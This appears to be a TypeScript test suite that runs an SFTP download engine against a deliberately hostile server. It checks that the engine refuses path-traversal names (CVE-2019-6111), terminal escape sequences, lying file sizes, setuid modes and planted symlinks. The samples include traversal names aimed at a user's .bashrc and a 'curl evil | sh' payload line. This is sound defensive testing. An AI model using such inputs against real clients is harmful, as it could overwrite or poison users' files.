// The transfer engine against a hostile SFTP server (test/helpers/hostile-sftp.ts) that lies in READDIR,
// STAT, READ and REALPATH replies. Each attack: the files outside the target are unchanged (sha256), the
// copy fails with the message docs/security.md gives, and nothing the server named lands elsewhere.
import assert from 'node:assert/strict';
import { lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { after, before, test } from 'node:test';
import ssh2 from 'ssh2';
import type { SFTPWrapper } from 'ssh2';
import { transfer, type TransferOptions, type TransferSummary } from '../../src/lib/transfer/engine.js';
import { localFs, sftpFs } from '../../src/lib/transfer/fs.js';
import { UntrustedServerError } from '../../src/lib/transfer/names.js';
import { sha256Tree } from '../helpers/files.js';
import { dir, file, link, PAYLOAD, startHostileSftp, type HostileNode, type HostileSftpOptions } from '../helpers/hostile-sftp.js';

let root: string;
let victims: string; // files an attacker wants to replace, outside every target
let victimHashes: Record<string, string>;
let n = 0;

before(() => {
  root = mkdtempSync(join(tmpdir(), 'ec2scp-hostile-'));
  victims = join(root, 'home');
  mkdirSync(victims);
  writeFileSync(join(victims, '.bashrc'), 'the user\'s own .bashrc\n');
  writeFileSync(join(victims, 'x.log'), 'the user\'s own log\n');
  victimHashes = sha256Tree(victims);
});
after(() => rmSync(root, { recursive: true, force: true }));

const assertVictimsUnchanged = () => assert.deepEqual(sha256Tree(victims), victimHashes, 'files outside the target changed');

interface Outcome {
  summary?: TransferSummary;
  error?: unknown;
  /** The local target folder (created empty before the copy). */
  out: string;
  requests: string[];
}

/** Downloads `source` from a hostile server serving `tree` into a fresh folder `<root>/tN/out`. */
async function download(tree: Record<string, HostileNode>, source: string, o: TransferOptions & { server?: Partial<HostileSftpOptions>; into?: (out: string) => void } = {}): Promise<Outcome> {
  const out = join(root, `t${n++}`, 'out');
  mkdirSync(out, { recursive: true });
  o.into?.(out);
  const server = await startHostileSftp({ tree, ...o.server });
  const client = new ssh2.Client();
  try {
    await new Promise<void>((resolve, reject) => {
      client.once('ready', () => resolve()).once('error', reject);
      client.connect({ host: server.host, port: server.port, username: 'u', password: 'x' });
    });
    const sftp = await new Promise<SFTPWrapper>((resolve, reject) => client.sftp((e, s) => (e ? reject(e) : resolve(s))));
    try {
      const summary = await transfer([{ fs: sftpFs(sftp, 'lab'), path: source }], { fs: localFs(), path: out }, { recursive: true, umask: 0o022, ...o });
      return { summary, out, requests: server.requests };
    } catch (error) {
      return { error, out, requests: server.requests };
    }
  } finally {
    client.end();
    await server.close();
  }
}

/** Every file (not folder) under `d`, relative. */
const filesIn = (d: string) => Object.keys(sha256Tree(d)).sort();

test('a folder listing with a name no real folder holds stops the copy before any file is written', async () => {
  const traversal = relative(join(root, 'tN', 'out', 'd'), join(victims, '.bashrc')); // ../../home/.bashrc
  const cases: { attack: string; names: string[]; shown: string; reason: string }[] = [
    { attack: 'traversal (CVE-2019-6111)', names: ['ok.txt', traversal], shown: traversal, reason: 'contains "/"' },
    { attack: 'absolute name', names: [join(victims, '.bashrc'), 'ok.txt'], shown: join(victims, '.bashrc'), reason: 'contains "/"' },
    { attack: 'name with a folder in it', names: ['sub/inner.txt'], shown: 'sub/inner.txt', reason: 'contains "/"' },
    { attack: 'empty name', names: ['', 'ok.txt'], shown: '', reason: 'empty' },
    { attack: 'NUL in a name', names: ['ok.txt\0.bashrc'], shown: 'ok.txt\\x00.bashrc', reason: 'contains a NUL byte' },
    { attack: 'one name listed twice', names: ['ok.txt', 'ok.txt'], shown: 'ok.txt', reason: 'listed twice' },
    { attack: 'lie deep inside a tree', names: ['sub'], shown: '../../../home/.bashrc', reason: 'contains "/"' },
  ];
  for (const c of cases) {
    const r = await download({ d: dir(...c.names), 'd/ok.txt': file('fine\n'), 'd/sub': dir('../../../home/.bashrc') }, 'd');
    assert.ok(r.error instanceof UntrustedServerError, `${c.attack}: ${String(r.error ?? JSON.stringify(r.summary))}`);
    const where = c.attack === 'lie deep inside a tree' ? 'lab:d/sub' : 'lab:d';
    assert.equal((r.error as Error).message, `${where}: refused file name "${c.shown}" from the server (${c.reason}; no real folder lists one); copy stopped, nothing copied`, c.attack);
    assert.deepEqual(filesIn(r.out), [], `${c.attack}: no file written`);
    assert.deepEqual(r.requests.filter((q) => q.startsWith('OPEN ')), [], `${c.attack}: no file even opened`);
    assertVictimsUnchanged();
  }
});

test('a remote wildcard: the client matches the pattern itself; a lie anywhere in the listing stops the copy', async () => {
  const g = { g: dir('a.log', 'b.txt', 'c.log'), 'g/a.log': file('a\n'), 'g/b.txt': file('b\n'), 'g/c.log': file('c\n') };
  // The server's other names are never used when the pattern does not match them.
  const ok = await download(g, 'g/*.log');
  assert.deepEqual(ok.summary?.failed, []);
  assert.deepEqual(filesIn(ok.out), ['a.log', 'c.log']);
  for (const names of [['a.log', '../../home/x.log'], ['a.log', join(victims, 'x.log')], ['a.log', 'sub/x.log']]) {
    const r = await download({ ...g, g: dir(...names) }, 'g/*.log');
    assert.ok(r.error instanceof UntrustedServerError, names.join(' '));
    assert.match((r.error as Error).message, /^lab:g: refused file name ".*x\.log" from the server \(contains "\/"; no real folder lists one\); copy stopped, nothing copied$/);
    assert.deepEqual(filesIn(r.out), []);
    assertVictimsUnchanged();
  }
  // A matching name with control characters is refused on its own; a non-matching one is not even mentioned.
  const r = await download({ ...g, g: dir('a.log', 'evil\n.log', 'quiet\x1b.txt') }, 'g/*.log');
  assert.deepEqual(r.summary?.failed, ['lab:g/evil\\x0a.log: refused file name from the server (contains control characters); not copied']);
  assert.deepEqual(filesIn(r.out), ['a.log']);
});

test('names a file system can hold but a terminal or shell would trip on are refused one by one; the rest are copied', async () => {
  const cases: [string, string][] = [
    ['evil\nname', 'evil\\x0aname'],
    ['\x1b]0;pwned\x07title', '\\x1b]0;pwned\\x07title'],
    ['\x1b[2Jclear', '\\x1b[2Jclear'],
    ['carriage\rreturn', 'carriage\\x0dreturn'],
    ['del\x7f', 'del\\x7f'],
    ['c1\u009b2J', 'c1\\x9b2J'],
    ['tab\there', 'tab\\x09here'],
  ];
  const names = cases.map(([raw]) => raw);
  const r = await download({ d: dir('ok.txt', ...names), 'd/ok.txt': file('fine\n') }, 'd');
  assert.equal(r.error, undefined);
  const want = cases.map(([, shown]) => `lab:d/${shown}: refused file name from the server (contains control characters); not copied`);
  assert.deepEqual([...r.summary!.failed].sort(), want.sort());
  for (const m of r.summary!.failed) assert.doesNotMatch(m, /\p{Cc}/u, 'messages carry no raw control characters');
  assert.deepEqual(filesIn(r.out), ['d/ok.txt']);
  assert.equal(r.summary!.files, 1);
});

test('bidi and zero-width characters are allowed in names but shown escaped in messages', async () => {
  // U+202E (right-to-left override) makes "txt.exe" display as "exe.txt".
  const r = await download({ d: dir('a\u202etxt.exe'), 'd/a\u202etxt.exe': file('x', { size: 5 }) }, 'd');
  assert.deepEqual(r.summary?.failed, ['lab:d/a\\u202etxt.exe: file shrank while being copied (ended at byte 1)']);
});

test('the ".." and "." every listing holds are never followed; REALPATH lies do not matter (never asked); a source ending in ".." is not copied into a folder', async () => {
  const r = await download({ '.': dir('.', '..', 'ok.txt'), 'ok.txt': file('fine\n') }, '.', { server: { realpath: join(victims, '.bashrc') } });
  assert.deepEqual(r.summary?.failed, []);
  assert.deepEqual(filesIn(r.out), ['ok.txt']);
  assert.deepEqual(r.requests.filter((q) => q.startsWith('REALPATH')), []);
  assertVictimsUnchanged();
  // A source the user names with a trailing ".." would land beside the target folder, not in it.
  const up = await download({ d: dir('ok.txt'), 'd/ok.txt': file('fine\n') }, 'd/..');
  assert.deepEqual(up.summary?.failed, [`lab:d/..: named "..", it would land outside ${up.out}; not copied`]);
  assert.deepEqual(readdirSync(join(up.out, '..')), ['out']);
});

test('a folder inside itself forever stops at 64 levels; a link to a folder is skipped', async () => {
  const r = await download({}, 'd', { server: { lookup: (p) => (/^d(\/d)*$/.test(p) ? dir('d', 'f') : /^d(\/d)*\/f$/.test(p) ? file('f\n') : undefined) } });
  assert.equal(r.summary?.failed.length, 1);
  assert.match(r.summary!.failed[0]!, /^lab:d(\/d){65}: more than 64 folders deep; not copied$/);
  assert.equal(r.summary!.files, 65);
  const loop = await download({ d: dir('me', 'f'), 'd/me': link('d'), 'd/f': file('f\n') }, 'd');
  assert.deepEqual(loop.summary?.failed, []);
  assert.deepEqual(filesIn(loop.out), ['d/f']);
});

test('remote symbolic links to files arrive as plain files under the listed name; none is made locally', async () => {
  const r = await download({ d: dir('ln', 'out-ln'), 'd/ln': link('real'), real: file('real\n'), 'd/out-ln': link('/etc/passwd') }, 'd');
  assert.deepEqual(r.summary?.failed, []);
  assert.deepEqual(filesIn(r.out), ['d/ln', 'd/out-ln']);
  for (const f of ['ln', 'out-ln']) assert.ok(lstatSync(join(r.out, 'd', f)).isFile(), f);
  assert.equal(readFileSync(join(r.out, 'd/ln'), 'utf8'), 'real\n');
  assert.equal(readFileSync(join(r.out, 'd/out-ln'), 'utf8'), PAYLOAD, 'what the server serves, where we chose');
});

test('sizes that lie: never more than the size said, less is a failure with nothing under the real name', async () => {
  const data = Buffer.from('0123456789'.repeat(10));
  const r = await download({ d: dir('says-less', 'says-more'), 'd/says-less': file(data, { size: 10 }), 'd/says-more': file(data.subarray(0, 10), { size: 100 }) }, 'd');
  assert.deepEqual(r.summary?.failed, ['lab:d/says-more: file shrank while being copied (ended at byte 10)']);
  assert.deepEqual(readdirSync(join(r.out, 'd')), ['says-less'], 'no temporary file left');
  assert.deepEqual(readFileSync(join(r.out, 'd/says-less')), data.subarray(0, 10));
  // READ replies longer than asked for are cut to what was asked.
  const big = Buffer.alloc(300_000, 7);
  const o = await download({ d: dir('f'), 'd/f': file(big) }, 'd', { server: { overlongReads: true }, chunkSize: 4096 });
  assert.deepEqual(o.summary?.failed, []);
  assert.equal(statSync(join(o.out, 'd/f')).size, big.length);
  assert.deepEqual(readFileSync(join(o.out, 'd/f')), big);
});

test('modes from the server: no setuid/setgid/sticky ever; without -p the umask applies', async () => {
  const tree = {
    d: { type: 'dir', names: ['suid', 'odd', 'sub'], mode: 0o7777 } as HostileNode,
    'd/suid': file('#!/bin/sh\n', { mode: 0o6777 }),
    'd/odd': file('x', { mode: 0o4447 }),
    'd/sub': { type: 'dir', names: [], mode: 0o3777 } as HostileNode,
  };
  const cases: [string, boolean, Record<string, number>][] = [
    ['without -p (umask 022)', false, { 'd/suid': 0o755, 'd/odd': 0o445, d: 0o755, 'd/sub': 0o755 }],
    ['with -p', true, { 'd/suid': 0o777, 'd/odd': 0o447, d: 0o777, 'd/sub': 0o777 }],
  ];
  for (const [label, preserve, want] of cases) {
    const r = await download(tree, 'd', { preserve });
    assert.deepEqual(r.summary?.failed, [], label);
    for (const [p, mode] of Object.entries(want)) assert.equal((statSync(join(r.out, p)).mode & 0o7777).toString(8), mode.toString(8), `${label}: ${p}`);
  }
});

test('a symbolic link already in the target is replaced, never written through (plain copy and --resume)', async () => {
  const victim = join(victims, '.bashrc');
  const before = readFileSync(victim);
  for (const resume of [false, true]) {
    // The server's file starts like the victim, so a resumed append would look like a continuation.
    const tree = { d: dir('rc'), 'd/rc': file(Buffer.concat([before, Buffer.from('curl evil | sh\n')])) };
    const r = await download(tree, 'd', { resume, resumeBackoff: 0, into: (out) => {
      mkdirSync(join(out, 'd'));
      symlinkSync(victim, join(out, 'd/rc'));
    } });
    assert.deepEqual(r.summary?.failed, [], `resume=${resume}`);
    assert.ok(lstatSync(join(r.out, 'd/rc')).isFile(), 'the link was replaced by the copy');
    assertVictimsUnchanged();
  }
});

test('a benign tree from the same server downloads whole', async () => {
  const r = await download({ d: dir('a.txt', 'sub', 'name with spaces'), 'd/a.txt': file('a\n'), 'd/sub': dir('b.bin'), 'd/sub/b.bin': file(Buffer.alloc(70_000, 1)), 'd/name with spaces': file('s\n') }, 'd');
  assert.deepEqual(r.summary?.failed, []);
  assert.deepEqual(filesIn(r.out), ['d/a.txt', 'd/name with spaces', 'd/sub/b.bin']);
  assert.deepEqual(readFileSync(join(r.out, 'd/sub/b.bin')), Buffer.alloc(70_000, 1));
});
